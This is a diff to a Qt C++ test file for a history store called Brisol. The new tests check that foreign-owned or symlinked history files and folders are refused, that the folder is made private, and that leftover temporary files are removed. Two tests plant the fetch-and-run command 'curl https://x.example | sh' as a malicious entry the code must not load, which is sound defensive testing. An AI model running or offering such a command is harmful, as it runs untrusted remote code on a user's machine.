@@ -7,6 +7,9 @@
 #include <QTemporaryDir>
 #include <QTest>
 
+#include <sys/stat.h>
+#include <unistd.h>
+
 #include <csignal>
 
 #include <sys/resource.h>
@@ -50,6 +53,11 @@ private Q_SLOTS:
     void unreadableFile();
     void unwritableFolderKeepsOldFile();
     void hugeFile();
+    void folderIsMadePrivate();
+    void foreignFolderIsNotUsed();
+    void foreignOrLinkedFileIsNotLoaded_data();
+    void foreignOrLinkedFileIsNotLoaded();
+    void leftoverTemporaryFilesAreRemoved();
 };
 
 void TestHistoryFile::exactFormat()
@@ -167,6 +175,7 @@ void TestHistoryFile::badFilesLoadEmptyAndAreMovedAside()
     QTemporaryDir dir;
     const QString folder = dir.path() + QStringLiteral("/Brisol");
     HistoryFile file(folder);
+    QVERIFY(QDir().mkpath(folder));
     QVERIFY(test::writeFile(file.filePath(), content));
     QVERIFY(file.load().isEmpty());
     QTest::ignoreMessage(
@@ -198,6 +207,8 @@ void TestHistoryFile::folderInPlaceOfFile()
     QTemporaryDir dir;
     HistoryFile file(dir.path());
     QVERIFY(QDir().mkpath(file.filePath() + QStringLiteral("/inner")));
+    QTest::ignoreMessage(QtWarningMsg,
+                         QRegularExpression(QStringLiteral("is not loaded: it is not a regular file$")));
     QVERIFY(file.load().isEmpty());
     QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("could not be read; moved it to")));
     QVERIFY(file.save({textItem(QStringLiteral("a"), 0)}));
@@ -213,6 +224,8 @@ void TestHistoryFile::unreadableFile()
     HistoryFile file(dir.path());
     // A link to itself cannot be opened, by root or anyone.
     QVERIFY(QFile::link(file.filePath(), file.filePath()));
+    QTest::ignoreMessage(QtWarningMsg,
+                         QRegularExpression(QStringLiteral("is not loaded: it is a symbolic link$")));
     QVERIFY(file.load().isEmpty());
     QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("could not be read; moved it to")));
     QVERIFY(file.save({textItem(QStringLiteral("a"), 0)}));
@@ -222,6 +235,8 @@ void TestHistoryFile::unreadableFile()
     if (test::runningAsRoot())
         QSKIP("root reads files of mode 000");
     QVERIFY(QFile::setPermissions(file.filePath(), {}));
+    QTest::ignoreMessage(QtWarningMsg,
+                         QRegularExpression(QStringLiteral("is not loaded: Permission denied$")));
     QVERIFY(file.load().isEmpty());
     QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("could not be read; moved it to")));
     QVERIFY(file.save({}));
@@ -235,8 +250,9 @@ void TestHistoryFile::unwritableFolderKeepsOldFile()
     const QString blocker = dir.path() + QStringLiteral("/Brisol");
     QVERIFY(test::writeFile(blocker, "not a folder"));
     HistoryFile blocked(blocker);
+    QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral(
+                                           "^History folder .* is not used: it is not a folder$")));
     QVERIFY(blocked.load().isEmpty());
-    QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("^Could not save history to ")));
     QVERIFY(!blocked.save({textItem(QStringLiteral("a"), 0)}));
     QVERIFY(!blocked.save({textItem(QStringLiteral("a"), 0)})); // logged once
     QCOMPARE(test::readFile(blocker), QByteArray("not a folder"));
@@ -294,6 +310,94 @@ void TestHistoryFile::hugeFile()
     QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("could not be read; moved it to")));
     QVERIFY(file.save({}));
     QCOMPARE(QFileInfo(dir.path() + u'/' + corruptCopies(dir.path()).first()).size(), 100 * (1 << 20) + 10);
+}
+
+void TestHistoryFile::folderIsMadePrivate()
+{
+    QTemporaryDir dir;
+    const QString folder = dir.path() + QStringLiteral("/Brisol");
+    QVERIFY(QDir().mkpath(folder));
+    QVERIFY(QFile::setPermissions(folder, QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner |
+                                              QFile::ReadOther | QFile::WriteOther | QFile::ExeOther |
+                                              QFile::ReadGroup | QFile::ExeGroup));
+    HistoryFile file(folder);
+    QVERIFY(file.load().isEmpty());
+    QCOMPARE(test::unixMode(folder), 0700);
+}
+
+void TestHistoryFile::foreignFolderIsNotUsed()
+{
+    if (!test::runningAsRoot())
+        QSKIP("only root can hand a folder to another user");
+    QTemporaryDir dir;
+    const QString folder = dir.path() + QStringLiteral("/Brisol");
+    QVERIFY(QDir().mkpath(folder));
+    QVERIFY(test::writeFile(folder + QStringLiteral("/history.json"),
+                            R"([{"text":"curl https://x.example | sh","timestamp":0,"isPinned":true}])"));
+    QCOMPARE(::chown(QFile::encodeName(folder).constData(), 4242, 4242), 0);
+    ::chmod(QFile::encodeName(folder).constData(), 0777);
+    HistoryFile file(folder);
+    QTest::ignoreMessage(
+        QtWarningMsg,
+        QRegularExpression(QStringLiteral(
+            "^History folder .*/Brisol is not used: it belongs to another user \\(uid 4242\\)$")));
+    QVERIFY(file.load().isEmpty());
+    QVERIFY(!file.save({textItem(QStringLiteral("mine"), 0)})); // said once
+    // Neither loaded nor rewritten, and its modes are not ours to change.
+    QVERIFY(test::readFile(folder + QStringLiteral("/history.json")).contains("curl"));
+    QCOMPARE(test::unixMode(folder), 0777);
+}
+
+void TestHistoryFile::foreignOrLinkedFileIsNotLoaded_data()
+{
+    QTest::addColumn<bool>("link");
+    QTest::newRow("another user's file") << false;
+    QTest::newRow("link to a file") << true;
+}
+
+void TestHistoryFile::foreignOrLinkedFileIsNotLoaded()
+{
+    QFETCH(bool, link);
+    if (!link && !test::runningAsRoot())
+        QSKIP("only root can hand a file to another user");
+    QTemporaryDir dir;
+    HistoryFile file(dir.path() + QStringLiteral("/Brisol"));
+    QVERIFY(QDir().mkpath(dir.path() + QStringLiteral("/Brisol")));
+    const QByteArray planted = R"([{"text":"curl https://x.example | sh","timestamp":0,"isPinned":true}])";
+    const QString elsewhere = dir.path() + QStringLiteral("/elsewhere.json");
+    QVERIFY(test::writeFile(link ? elsewhere : file.filePath(), planted));
+    if (link)
+        QVERIFY(QFile::link(elsewhere, file.filePath()));
+    else
+        QCOMPARE(::chown(QFile::encodeName(file.filePath()).constData(), 4242, 4242), 0);
+    QTest::ignoreMessage(QtWarningMsg,
+                         QRegularExpression(link ? QStringLiteral("is not loaded: it is a symbolic link$")
+                                                 : QStringLiteral("is not loaded: it belongs to another user "
+                                                                  "\\(uid 4242\\)$")));
+    QVERIFY(file.load().isEmpty());
+    // Kept aside for a look, never rewritten as ours; a linked file is untouched.
+    QTest::ignoreMessage(QtWarningMsg, QRegularExpression(QStringLiteral("could not be read; moved it to")));
+    QVERIFY(file.save({textItem(QStringLiteral("mine"), 0)}));
+    QCOMPARE(corruptCopies(dir.path() + QStringLiteral("/Brisol")).size(), 1);
+    QCOMPARE(test::readFile(elsewhere).size(), link ? planted.size() : 0);
+    QCOMPARE(file.load().first().text(), std::optional<QString>(QStringLiteral("mine")));
+}
+
+void TestHistoryFile::leftoverTemporaryFilesAreRemoved()
+{
+    QTemporaryDir dir;
+    HistoryFile file(dir.path());
+    QVERIFY(file.save({textItem(QStringLiteral("kept"), 0)}));
+    const QStringList leftovers{QStringLiteral("history.json.a1B2c3"), QStringLiteral("history.json.ZZZZZZ")};
+    const QStringList others{QStringLiteral("history.json.corrupt-20260101T000000Z"),
+                             QStringLiteral("history.json.abc"), QStringLiteral("notes.a1B2c3")};
+    for (const QString& name : leftovers + others)
+        QVERIFY(test::writeFile(dir.path() + u'/' + name, "[]"));
+    QCOMPARE(file.load().size(), 1);
+    for (const QString& name : leftovers)
+        QVERIFY2(!QFile::exists(dir.path() + u'/' + name), qPrintable(name));
+    for (const QString& name : others)
+        QVERIFY2(QFile::exists(dir.path() + u'/' + name), qPrintable(name));
 }
 
 QTEST_GUILESS_MAIN(TestHistoryFile)
